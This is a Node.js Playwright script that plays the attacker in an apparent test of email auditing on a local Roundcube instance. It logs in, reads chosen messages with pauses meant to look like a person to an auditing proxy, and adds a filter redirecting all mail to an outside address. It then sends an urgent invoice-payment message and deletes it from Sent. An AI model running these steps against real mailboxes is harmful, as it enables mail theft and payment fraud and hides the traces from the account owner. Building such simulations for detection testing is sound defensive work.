// Plays the attacker of a business email compromise in Roundcube, in Debian's Chromium, from a given local address:
// logs in, opens messages by subject, creates a filter that forwards all mail outside, sends a mail and deletes it
// from Sent. Exits 1 naming the step that failed; a screenshot of each step goes to --screenshots.
//
//   node attacker.mjs --url http://127.0.0.1:8080/ --user alice --password … --from 127.0.0.66 \
//        --read "Subject one" --read "Subject two" --forward-to x@outside.example \
//        --send-to y@outside.example --send-subject "Urgent" --screenshots target/webmail [--think 2500]
//
// Chromium cannot choose its source address, and towards 127.0.0.66 the kernel still picks 127.0.0.1 (the
// loopback route's preferred source). So the browser talks to a local forward that opens each connection to the
// web server from --from: the web server's REMOTE_ADDR is then --from, as it would be the attacker's address.
import { chromium } from 'playwright-core';
import net from 'node:net';
import fs from 'node:fs';
import path from 'node:path';
import { parseArgs } from 'node:util';

const { values: opt } = parseArgs({
  options: {
    url: { type: 'string' },
    user: { type: 'string' },
    password: { type: 'string' },
    from: { type: 'string', default: '127.0.0.66' },
    read: { type: 'string', multiple: true, default: [] },
    'forward-to': { type: 'string' },
    'filter-name': { type: 'string', default: 'Keep a copy' },
    'send-to': { type: 'string' },
    'send-subject': { type: 'string' },
    'sent-folder': { type: 'string', default: 'Sent' },
    screenshots: { type: 'string', default: 'target/webmail' },
    chromium: { type: 'string', default: '/usr/bin/chromium' },
    timeout: { type: 'string', default: '30000' },
    // A person looks at the list before opening a message; an auditing proxy tells reading from downloading by such
    // pauses (a body fetched right after the list, or reads in quick succession, is a client syncing the folder).
    think: { type: 'string', default: '2500' },
  },
});
for (const required of ['url', 'user', 'password']) {
  if (!opt[required]) {
    console.error(`attacker.mjs: --${required} is required`);
    process.exit(2);
  }
}
fs.mkdirSync(opt.screenshots, { recursive: true });

/** A forward on 127.0.0.1 whose connections reach the web server from `from`. */
function forwardFrom(from, target) {
  const server = net.createServer((client) => {
    const upstream = net.connect({ host: target.hostname, port: Number(target.port || 80), localAddress: from });
    client.pipe(upstream).pipe(client);
    const end = () => { client.destroy(); upstream.destroy(); };
    client.on('error', end);
    upstream.on('error', (e) => { console.error(`forward: ${e.message}`); end(); });
  });
  return new Promise((resolve, reject) => {
    server.on('error', reject);
    server.listen(0, '127.0.0.1', () => resolve(server));
  });
}

const target = new URL(opt.url);
const forward = await forwardFrom(opt.from, target);
const base = new URL(target.pathname, `http://127.0.0.1:${forward.address().port}`).toString();
const browser = await chromium.launch({
  executablePath: opt.chromium,
  // Chromium refuses its sandbox to root, as CI runs.
  args: process.getuid && process.getuid() === 0 ? ['--no-sandbox'] : [],
});
const page = await browser.newPage();
page.setDefaultTimeout(Number(opt.timeout));
let shot = 0;
// What the page was doing when a step failed: requests still open, errors the page logged.
const pending = new Map();
const pageErrors = [];
page.on('request', (r) => pending.set(r, Date.now()));
page.on('requestfinished', (r) => pending.delete(r));
page.on('requestfailed', (r) => {
  pending.delete(r);
  pageErrors.push(`request failed: ${r.url()} ${r.failure()?.errorText ?? ''}`);
});
page.on('pageerror', (e) => pageErrors.push(`page error: ${e.message}`));
page.on('console', (m) => {
  if (m.type() === 'error') pageErrors.push(`console: ${m.text()}`);
});

async function diagnosis() {
  const notice = await page.locator('#messagestack').innerText({ timeout: 1000 }).catch(() => '');
  const open = [...pending.entries()].map(([r, t]) => `${r.method()} ${r.url()} (${Date.now() - t} ms)`);
  return [
    `url ${page.url()}`,
    notice.trim() ? `notice "${notice.trim()}"` : '',
    open.length ? `requests still open: ${open.join(', ')}` : '',
    ...pageErrors.slice(-5),
  ].filter(Boolean).join('; ');
}

async function step(name, action) {
  try {
    await action();
    await page.screenshot({ path: path.join(opt.screenshots, `${String(++shot).padStart(2, '0')}-${name}.png`) });
    console.log(`done: ${name}`);
  } catch (e) {
    await page.screenshot({ path: path.join(opt.screenshots, `failed-${name}.png`) }).catch(() => {});
    fs.writeFileSync(path.join(opt.screenshots, `failed-${name}.html`), await page.content().catch(() => ''));
    throw new Error(`step "${name}" failed: ${e.message.split('\n')[0]} [${await diagnosis()}]`);
  }
}

const url = (query) => `${base}?${query}`;

async function openFolder(folder) {
  await page.goto(url(`_task=mail&_mbox=${encodeURIComponent(folder)}`));
  await page.locator('#messagelist tbody tr').first().waitFor();
}

async function openMessage(subject) {
  await page.waitForTimeout(Number(opt.think));
  await page.locator('#messagelist tbody tr', { hasText: subject }).first().click();
  await page.frameLocator('#messagecontframe').locator('.subject', { hasText: subject }).first().waitFor();
}

try {
  await step('login', async () => {
    // A person whose login page comes back (an expired form, a slow first request) logs in again; so does this
    // script, once. A second failure is the step's failure.
    for (let attempt = 1; ; attempt++) {
      await page.goto(base);
      await page.fill('#rcmloginuser', opt.user);
      await page.fill('#rcmloginpwd', opt.password);
      await page.click('#rcmloginsubmit');
      const mail = page.locator('body.task-mail #messagelist');
      const again = page.locator('#rcmloginuser');
      await Promise.race([mail.waitFor({ state: 'attached' }), page.waitForURL(/_task=mail/)]).catch(() => {});
      if (await mail.count() > 0) {
        break;
      }
      if (attempt === 2 || !(await again.count())) {
        await mail.waitFor({ state: 'attached', timeout: 1 });
      }
      console.log(`login: the login page came back [${await diagnosis()}]; logging in again`);
    }
    // The mail view is there; its list fills in by a request of its own. Reload once if that request was lost.
    try {
      await page.locator('#messagelist tbody tr').first().waitFor();
    } catch (e) {
      console.log(`login: the message list stayed empty [${await diagnosis()}]; reloading`);
      await page.reload();
      await page.locator('#messagelist tbody tr').first().waitFor();
    }
  });
  for (const [i, subject] of opt.read.entries()) {
    await step(`read-${i + 1}`, async () => {
      if (i === 0) {
        await openFolder('INBOX');
      }
      await openMessage(subject);
    });
  }
  if (opt['forward-to']) {
    await step('forwarding-filter', async () => {
      await page.goto(url('_task=settings&_action=plugin.managesieve'));
      await page.locator('a.create:visible').first().click();
      const form = page.frameLocator('#filter-box');
      await form.locator('input[name="_name"]').fill(opt['filter-name']);
      await form.locator('select[name="_join"]').selectOption('any');
      await form.locator('select[name^="_action_type"]').first().selectOption('redirect');
      await form.locator('input[name^="_action_target"]:visible').first().fill(opt['forward-to']);
      await form.locator('.formbuttons button.submit').first().click();
      await page.locator('#filterslist tbody tr', { hasText: opt['filter-name'] }).first().waitFor();
    });
  }
  if (opt['send-to']) {
    await step('send', async () => {
      await page.goto(url('_task=mail&_action=compose'));
      const to = page.locator('.recipient-input input').first();
      await to.fill(opt['send-to']);
      await to.press('Enter');
      await page.fill('#compose-subject', opt['send-subject']);
      await page.fill('#composebody', 'Please pay the attached invoice today to our new account.');
      await page.locator('button.send:visible, a.send:visible').first().click();
      await page.waitForURL((u) => !u.searchParams.has('_action') || u.searchParams.get('_action') !== 'compose');
      await page.locator('#messagelist').waitFor();
    });
    await step('delete-sent', async () => {
      await openFolder(opt['sent-folder']);
      await openMessage(opt['send-subject']);
      await page.locator('a.delete:visible').first().click();
      await page.locator('#messagelist tbody tr', { hasText: opt['send-subject'] }).waitFor({ state: 'hidden' });
    });
  }
  await step('logout', async () => {
    await page.locator('a.logout').first().click();
    await page.locator('#rcmloginuser').waitFor();
  });
} catch (e) {
  console.error(`attacker.mjs: ${e.message} (screenshots in ${opt.screenshots})`);
  process.exitCode = 1;
} finally {
  await browser.close();
  forward.close();
}
